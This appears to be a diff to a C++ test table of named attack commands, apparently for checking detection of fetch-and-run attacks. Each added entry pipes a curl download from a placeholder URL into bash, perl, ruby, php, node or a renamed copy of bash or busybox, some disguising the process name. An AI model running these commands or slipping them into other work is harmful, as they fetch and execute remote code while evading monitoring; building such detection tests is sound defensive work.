@@ -51,6 +51,15 @@ const Attack kAttacks[] = {
     {"env", "curl -s @URL | env -i /bin/bash"},
     {"timeout", "timeout 20 curl -s @URL | timeout 20 bash"},
     {"exec -a", "curl -s @URL | (exec -a '[kthreadd]' bash)"},
+    {"curl | bash /proc/self/fd/0", "curl -s @URL | bash /proc/self/fd/0"},
+    {"perl interprets", "curl -s @PERL_URL | perl"},
+    {"ruby interprets", "curl -s @RUBY_URL | ruby"},
+    {"php interprets", "curl -s @PHP_URL | php"},
+    {"node interprets", "curl -s @NODE_URL | node -"},
+    {"a bash under another name", "cp /bin/bash @D/worker; curl -s @URL | @D/worker"},
+    {"a link to bash under another name", "ln /bin/bash @D/worker; curl -s @URL | @D/worker"},
+    {"a static busybox under another name",
+     "cp /bin/busybox @D/worker; curl -s @URL | (exec -a sh @D/worker)"},
     {"a copied bash", "cp /bin/bash @D/bash; curl -s @URL | @D/bash"},
 };
 
